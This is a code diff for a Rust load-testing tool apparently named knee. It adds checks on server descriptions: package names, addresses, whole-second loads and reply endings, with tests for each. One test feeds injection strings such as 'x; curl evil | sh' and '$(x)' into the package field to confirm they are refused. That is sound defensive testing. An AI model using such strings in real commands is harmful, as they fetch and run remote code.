@@ -7,7 +7,14 @@ use knee_host::toml_text::{TomlError, from_toml};
 use knee_load::{End, Reply, TextError};
 
 use super::fields::{RequestDescription, Server};
-use crate::placeholders::{self, ADDRESS, CONNECTIONS, MAX_CONNECTIONS, NUMBER};
+use crate::placeholders::{self, ADDRESS, CONNECTIONS, MAX_CONNECTIONS, NUMBER, SECONDS};
+
+/// Whether this can be the name of a package. knee suggests to install it, so it must be one word to a shell, and no
+/// option.
+fn is_package(name: &str) -> bool {
+    let is_part = |c: char| c.is_ascii_alphanumeric() || "+-._".contains(c);
+    name.starts_with(|c: char| c.is_ascii_alphanumeric()) && name.chars().all(is_part)
+}
 
 /// The longest time that a description can ask for, in seconds.
 const MOST_SECONDS: f64 = 86_400.0;
@@ -57,6 +64,10 @@ impl Server {
                 "name",
                 format!("{:?} is not a valid name; {reason}", self.name),
             ));
+        }
+        if let Some(need) = self.needs.iter().find(|need| !is_package(&need.package)) {
+            let reason = format!("{:?} is not the name of a package", need.package);
+            return Err(DescriptionError::value("needs.package", reason));
         }
         for name in self.files.keys() {
             let mut parts = Path::new(name).components();
@@ -130,6 +141,18 @@ impl Server {
         self.uses(ADDRESS) || self.files.values().any(|text| text.contains(ADDRESS))
     }
 
+    /// Checks that the load can run for `seconds`.
+    ///
+    /// # Errors
+    /// The load takes only whole seconds. The error contains the next valid time.
+    pub fn check_seconds(&self, seconds: f64) -> Result<(), String> {
+        if !self.load.whole_seconds || seconds.fract() == 0.0 {
+            return Ok(());
+        }
+        let (name, next) = (&self.name, seconds.ceil());
+        Err(format!("the load of {name} takes only whole seconds, such as {next}"))
+    }
+
     fn check_texts(&self) -> Result<(), DescriptionError> {
         for (key, text) in self.texts() {
             if text.trim().is_empty() {
@@ -137,6 +160,11 @@ impl Server {
             }
             if let Some((word, meant)) = placeholders::misspelt(text) {
                 let reason = format!("{word} is not a placeholder (did you mean {meant}?)");
+                return Err(DescriptionError::value(key, reason));
+            }
+            let is_address = matches!(key, "load.address" | "ready.connect");
+            if is_address && !has_port(text) {
+                let reason = format!("{text:?} is not an address; write HOST:PORT or unix:PATH");
                 return Err(DescriptionError::value(key, reason));
             }
         }
@@ -165,6 +193,10 @@ impl Server {
             _ => {}
         }
         self.check_host()?;
+        if load.whole_seconds && !load.command.as_ref().is_some_and(|line| line.contains(SECONDS)) {
+            let reason = "applies only to a load.command with {seconds}";
+            return Err(DescriptionError::value("load.whole_seconds", reason));
+        }
         if load.read.is_some() && load.command.is_none() {
             return Err(DescriptionError::value("load.read", "applies only to load.command"));
         }
@@ -205,6 +237,14 @@ impl Server {
     }
 }
 
+/// Whether the address of a server has a port, which may be a placeholder, or is that of a Unix socket.
+fn has_port(address: &str) -> bool {
+    let is_port = |port: &str| port.contains('{') || port.parse::<u16>().is_ok();
+    let with_port = address.rsplit_once(':');
+    address.starts_with("unix:")
+        || with_port.is_some_and(|(host, port)| !host.is_empty() && is_port(port))
+}
+
 /// Whether each machine reaches itself at this address.
 fn is_own(address: &str) -> bool {
     let host = address.rsplit_once(':').map_or(address, |(host, _)| host);
@@ -217,9 +257,15 @@ impl RequestDescription {
     /// The request for the generator.
     pub(crate) fn parsed(&self) -> Result<knee_load::Request, String> {
         let text = |error: TextError| error.to_string();
+        if self.reply_bytes == Some(0) {
+            return Err("reply_bytes = 0: a reply has at least one byte".to_owned());
+        }
+        if self.reply_ends.as_deref() == Some("") {
+            return Err("reply_ends is empty; write the text with which a reply ends".to_owned());
+        }
         let end = match (&self.reply_ends, self.reply_bytes, self.reply_http) {
-            (Some(end), None, false) if !end.is_empty() => End::with(end).map_err(text)?,
-            (None, Some(bytes), false) if bytes > 0 => End::Bytes(bytes),
+            (Some(end), None, false) => End::with(end).map_err(text)?,
+            (None, Some(bytes), false) => End::Bytes(bytes),
             (None, None, true) => End::Http,
             _ => {
                 return Err("set one of reply_ends, reply_bytes and reply_http".to_owned());
@@ -270,8 +316,56 @@ reply_ends = '\n'
         );
         let strange = ECHO.replace("[load]", "zzz = 1\n[load]");
         assert_eq!(refused(&strange), "line 5: unknown key zzz; valid keys: command, user");
-        assert!(refused("name = 1").starts_with("line 1: invalid type"), "{}", refused("name = 1"));
+        let wrong = "line 1: name: the whole number 1 stands here, but knee expects a text";
+        assert_eq!(refused("name = 1"), wrong);
         assert!(refused("name = \"a\n").starts_with("line 1: "), "{}", refused("name = \"a\n"));
+    }
+
+    #[test]
+    fn a_signal_may_have_its_full_name() {
+        let stop = |signal: &str| {
+            let stop = format!("[stop]\nsignal = '{signal}'\n[load]");
+            Server::parse(&ECHO.replace("[load]", &stop)).map(|server| server.stop.signal)
+        };
+        assert_eq!((stop("QUIT"), stop("SIGQUIT")), (Ok(StopSignal::Quit), Ok(StopSignal::Quit)));
+        assert_eq!(StopSignal::Quit.to_string(), "SIGQUIT");
+        assert!(stop("SIGFOO").unwrap_err().to_string().contains("TERM"));
+    }
+
+    #[test]
+    fn a_value_of_another_type_is_reported_with_its_key_in_words_of_toml() {
+        let with = |from: &str, to: &str| refused(&ECHO.replace(from, to));
+        let request = "request = { send = 'a', reply_bytes = 1 }\n";
+        assert_eq!(
+            with("[load]", &format!("[fill]\ncount = 1\n{request}[load]")),
+            "line 5: fill: a table stands here, but knee expects an array; write [[fill]] instead of [fill]"
+        );
+        assert_eq!(
+            with("send =", "weight = \"x\"\nsend ="),
+            "line 8: weight: the text \"x\" stands here, but knee expects a whole number of at least 1"
+        );
+        assert_eq!(
+            with("[load]", "[stop]\nseconds = 'x'\n[load]"),
+            "line 6: seconds: the text \"x\" stands here, but knee expects a number"
+        );
+        assert_eq!(
+            with("[server]", "[other]").split(';').next().unwrap(),
+            "line 3: unknown key other"
+        );
+        assert_eq!(with("name = \"echo\"\n", ""), "line 1: the key name is missing");
+    }
+
+    #[test]
+    fn the_name_of_a_package_adds_nothing_to_the_command_that_installs_it() {
+        let needs =
+            |package: &str| format!("needs = [{{ program = 'x', package = '{package}' }}]{ECHO}");
+        for package in ["nginx-light", "libstdc++6", "postgresql-15"] {
+            assert!(Server::parse(&needs(package)).is_ok(), "{package}");
+        }
+        for package in ["", "x; curl evil | sh", "-o=x", "$(x)", "a b"] {
+            let expected = format!("needs.package: {package:?} is not the name of a package");
+            assert_eq!(refused(&needs(package)), expected);
+        }
     }
 
     #[test]
@@ -296,6 +390,15 @@ reply_ends = '\n'
             with("[load]", "[files]\n\"../a\" = ''\n[load]").contains("\"../a\" is not the name")
         );
         assert!(with("[load]", "[load]\nread = '#'").contains("only to load.command"));
+        let ends = r"reply_ends = '\n'";
+        assert!(with(ends, "reply_bytes = 0").contains("reply_bytes = 0: a reply has at least"));
+        assert!(with(ends, "reply_ends = ''").contains("reply_ends is empty"));
+        for address in ["localhost", ":80", "localhost:", "localhost:http", "{address}"] {
+            let refused = with("127.0.0.1:{port}", address);
+            assert!(refused.starts_with("load.address: \""), "{refused}");
+            assert!(refused.ends_with("is not an address; write HOST:PORT or unix:PATH"));
+        }
+        assert!(with("[load]", "[ready]\nconnect = 'a'\n[load]").starts_with("ready.connect: "));
         let command = "name = 'a'\n[server]\ncommand = 'a'\n[load]\ncommand = 'b'\n";
         assert!(refused(command).starts_with("ready: "), "{}", refused(command));
         let pattern = format!("{command}read = 'tps'\n[ready]\noutput = 'up'");
@@ -324,6 +427,19 @@ reply_ends = '\n'
         assert!(unnamed.contains("write it as ssh:HOST or ssh:USER@HOST"), "{unnamed}");
         let local = ECHO.replace("[load]\n", "[load]\nknee = './knee'\n");
         assert!(refused(&local).starts_with("load.knee: applies only"), "{}", refused(&local));
+    }
+
+    #[test]
+    fn a_load_of_whole_seconds_refuses_fractions() {
+        let text = "name = 'a'\nserver.command = 'a'\nready.output = 'up'\n[load]\n\
+                    command = 'b -T {seconds}'\n";
+        let any = Server::parse(text).unwrap();
+        let whole = Server::parse(&format!("{text}whole_seconds = true\n")).unwrap();
+        assert_eq!((any.check_seconds(0.4), whole.check_seconds(2.0)), (Ok(()), Ok(())));
+        let refused_seconds = whole.check_seconds(1.5).unwrap_err();
+        assert_eq!(refused_seconds, "the load of a takes only whole seconds, such as 2");
+        let useless = refused(&ECHO.replace("[load]", "[load]\nwhole_seconds = true"));
+        assert!(useless.starts_with("load.whole_seconds: applies only to"), "{useless}");
     }
 
     #[test]
